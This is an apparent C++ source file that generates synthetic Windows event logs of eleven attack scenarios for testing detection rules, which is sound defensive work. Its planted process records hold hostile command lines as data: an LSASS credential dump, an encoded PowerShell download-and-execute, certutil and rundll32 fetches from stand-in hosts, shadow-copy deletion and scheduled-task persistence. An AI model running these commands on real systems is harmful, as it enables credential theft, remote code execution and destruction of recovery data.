// Attacks on Windows hosts and on the domain.

#include <fmt/format.h>

#include "traffic/attack.h"
#include "traffic/rule_ids.h"
#include "traffic/windows_record.h"

namespace weir::traffic {
namespace {

using std::chrono::milliseconds;
using std::chrono::minutes;
using std::chrono::seconds;

constexpr std::string_view kCmd = R"(C:\Windows\System32\cmd.exe)";
constexpr std::string_view kPowershell = R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";

// One suspicious process on a user's laptop; "%u" in the command stands for the login.
struct ProcessPlot {
  std::string_view title;
  std::string_view technique;
  std::string_view rule;
  std::string_view image;
  std::string_view command;
  std::string_view parent;
  bool elevated = false;
};

std::string with_login(std::string_view pattern, std::string_view login) {
  std::string text(pattern);
  for (std::size_t at = text.find("%u"); at != std::string::npos; at = text.find("%u", at)) text.replace(at, 2, login);
  return text;
}

std::optional<Attack> start_process(Stage& stage, const ProcessPlot& plot) {
  const auto scene = stage.scene(seconds(10));
  if (!scene) return std::nullopt;
  const User& user = *scene->user;
  Attack attack{.title = plot.title,
                .technique = plot.technique,
                .rules = {rule_id(plot.rule)},
                .source = Source::windows,
                .user = user.login,
                .host = user.host};
  const std::string command = with_login(plot.command, user.login);
  PlantedRecord record{Source::windows, scene->time, {}};
  append_process_start(record.bytes, {.time = scene->time,
                                      .host = user.host,
                                      .domain = kWindowsDomain,
                                      .user = user.login,
                                      .image = plot.image,
                                      .command = command,
                                      .parent = plot.parent,
                                      .parent_command = plot.parent,
                                      .description = "-",
                                      .company = "Microsoft Corporation",
                                      .integrity = plot.elevated ? "High" : "Medium",
                                      .process = 4 * (250 + stage.random().below(8'000)),
                                      .parent_process = 4 * (250 + stage.random().below(8'000)),
                                      .logon = 0x40000u + user.number});
  attack.records.push_back(std::move(record));
  return attack;
}

std::optional<Attack> lsass_dump(Stage& stage) {
  return start_process(
      stage, {"LSASS memory dumped with comsvcs.dll", "T1003.001", "windows/lsass_dump_comsvcs",
              R"(C:\Windows\System32\rundll32.exe)",
              R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\upd.dmp full)", kPowershell,
              true});
}

std::optional<Attack> encoded_powershell(Stage& stage) {
  return start_process(
      stage, {"PowerShell with an encoded command", "T1059.001", "windows/powershell_encoded_command", kPowershell,
              "powershell.exe -NoP -W Hidden -Enc "
              "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA"
              "UwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA=",
              kCmd});
}

std::optional<Attack> certutil_download(Stage& stage) {
  return start_process(
      stage,
      {"certutil downloads a program", "T1105", "windows/certutil_download", R"(C:\Windows\System32\certutil.exe)",
       R"(certutil.exe -urlcache -split -f http://198.51.100.23/a.txt C:\Users\%u\AppData\Local\Temp\a.exe)", kCmd});
}

std::optional<Attack> rundll32_script(Stage& stage) {
  return start_process(
      stage,
      {"rundll32 runs JavaScript", "T1218.011", "windows/rundll32_script_or_user_folder",
       R"(C:\Windows\System32\rundll32.exe)",
       R"(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.23/p.sct"))",
       kCmd});
}

std::optional<Attack> shadow_copies(Stage& stage) {
  return start_process(
      stage, {"Shadow copies deleted", "T1490", "windows/shadow_copies_deleted", R"(C:\Windows\System32\vssadmin.exe)",
              "vssadmin.exe delete shadows /all /quiet", kCmd, true});
}

std::optional<Attack> word_child(Stage& stage) {
  return start_process(stage, {"Word starts a command shell", "T1204.002", "windows/office_starts_script_host", kCmd,
                               R"(cmd.exe /c start /min C:\Users\%u\AppData\Roaming\helper.vbs)",
                               R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)"});
}

std::optional<Attack> scheduled_task(Stage& stage) {
  return start_process(
      stage,
      {"Scheduled task that starts a program from the user's folder", "T1053.005",
       "windows/scheduled_task_from_user_folder", R"(C:\Windows\System32\schtasks.exe)",
       R"(schtasks.exe /create /sc onlogon /tn "Adobe Sync" /tr "C:\Users\%u\AppData\Roaming\sync.exe" /f)", kCmd});
}

std::optional<Attack> admin_added(Stage& stage) {
  const auto scene = stage.scene(stage.company().helpdesk, seconds(60));
  if (!scene) return std::nullopt;
  const std::string_view host = stage.company().windows_servers.back().name;
  Attack attack{.title = "New account made a local administrator",
                .technique = "T1136.001",
                .rules = {rule_id("windows/member_added_to_administrators")},
                .source = Source::windows,
                .user = scene->user->login,
                .host = std::string(host)};
  PlantedRecord created{Source::windows, scene->time, {}};
  WindowsRecord(created.bytes, created.time, host, Channel::security, 4720)
      .field("TargetUserName", "support_388")
      .field("TargetDomainName", host)
      .field("TargetSid", "S-1-5-21-2211330044-1177238915-682003330-1021")
      .field("SubjectUserSid", scene->user->sid)
      .field("SubjectUserName", scene->user->login)
      .field("SubjectDomainName", kWindowsDomain)
      .field("SamAccountName", "support_388")
      .end();
  PlantedRecord added{Source::windows, scene->time + milliseconds(stage.random().between(400, 20'000)), {}};
  WindowsRecord(added.bytes, added.time, host, Channel::security, 4732)
      .field("MemberName", "-")
      .field("MemberSid", "S-1-5-21-2211330044-1177238915-682003330-1021")
      .field("TargetUserName", "Administrators")
      .field("TargetDomainName", "Builtin")
      .field("TargetSid", "S-1-5-32-544")
      .field("SubjectUserSid", scene->user->sid)
      .field("SubjectUserName", scene->user->login)
      .field("SubjectDomainName", kWindowsDomain)
      .end();
  created.evidence = false;  // An account alone is everyday work; the rule speaks of the group.
  attack.records.push_back(std::move(created));
  attack.records.push_back(std::move(added));
  return attack;
}

std::optional<Attack> log_cleared(Stage& stage) {
  const auto scene = stage.scene(seconds(10));
  if (!scene) return std::nullopt;
  Attack attack{.title = "Security event log cleared",
                .technique = "T1070.001",
                .rules = {rule_id("windows/event_log_cleared")},
                .source = Source::windows,
                .user = scene->user->login,
                .host = scene->user->host};
  PlantedRecord record{Source::windows, scene->time, {}};
  WindowsRecord(record.bytes, scene->time, scene->user->host, Channel::event_log, 1102)
      .field("SubjectUserSid", scene->user->sid)
      .field("SubjectUserName", scene->user->login)
      .field("SubjectDomainName", kWindowsDomain)
      .hex("SubjectLogonId", 0x40000 + scene->user->number)
      .end();
  attack.records.push_back(std::move(record));
  return attack;
}

// One password against many accounts, from one address, slowly enough to lock none of them.
std::optional<Attack> password_spraying(Stage& stage) {
  const auto scene = stage.scene(minutes(22));
  if (!scene) return std::nullopt;
  const Company& company = stage.company();
  Attack attack{.title = "Password spraying against the domain",
                .technique = "T1110.003",
                .needs = Needs::correlation,
                .source = Source::windows,
                .user = {},
                .host = company.windows_servers.front().name};
  EventTime at = scene->time;
  const std::uint32_t first = stage.random().below(static_cast<std::uint32_t>(company.users.size()));
  for (std::uint32_t i = 0; i < 60; ++i) {
    const User& target = company.users[(first + i) % company.users.size()];
    PlantedRecord record{Source::windows, at, {}};
    append_failed_logon(record.bytes, {.time = at,
                                       .host = company.windows_servers.front().name,
                                       .user = target.login,
                                       .type = 3,
                                       .workstation = "WIN-8KQ2",
                                       .address = "10.2.0.213",
                                       .port = 49'152 + stage.random().below(16'000),
                                       .process = "NtLmSsp"});
    attack.records.push_back(std::move(record));
    at += milliseconds(stage.random().between(9'000, 21'000));
  }
  return attack;
}

std::optional<Attack> password_resets(Stage& stage) {
  const auto scene = stage.scene(stage.company().helpdesk, minutes(10));
  if (!scene) return std::nullopt;
  const Company& company = stage.company();
  Attack attack{.title = "One administrator resets more than ten passwords within minutes",
                .technique = "T1098",
                .needs = Needs::correlation,
                .source = Source::windows,
                .user = scene->user->login,
                .host = company.windows_servers.front().name};
  EventTime at = scene->time;
  for (int i = 0; i < 16; ++i) {
    const User& target = stage.random().pick(company.users);
    PlantedRecord record{Source::windows, at, {}};
    WindowsRecord(record.bytes, at, company.windows_servers.front().name, Channel::security, 4724)
        .field("TargetUserName", target.login)
        .field("TargetDomainName", kWindowsDomain)
        .field("TargetSid", target.sid)
        .field("SubjectUserSid", scene->user->sid)
        .field("SubjectUserName", scene->user->login)
        .field("SubjectDomainName", kWindowsDomain)
        .hex("SubjectLogonId", 0x40000 + scene->user->number)
        .end();
    attack.records.push_back(std::move(record));
    at += seconds(stage.random().between(8, 35));
  }
  return attack;
}

constexpr std::array<Scenario, 11> kScenarios = {{
    {"windows-lsass-dump", lsass_dump},
    {"windows-encoded-powershell", encoded_powershell},
    {"windows-certutil-download", certutil_download},
    {"windows-rundll32-script", rundll32_script},
    {"windows-shadow-copies", shadow_copies},
    {"windows-word-child", word_child},
    {"windows-scheduled-task", scheduled_task},
    {"windows-new-administrator", admin_added},
    {"windows-log-cleared", log_cleared},
    {"windows-password-spraying", password_spraying},
    {"windows-password-resets", password_resets},
}};

}  // namespace

std::span<const Scenario> windows_scenarios() {
  return kScenarios;
}

}  // namespace weir::traffic
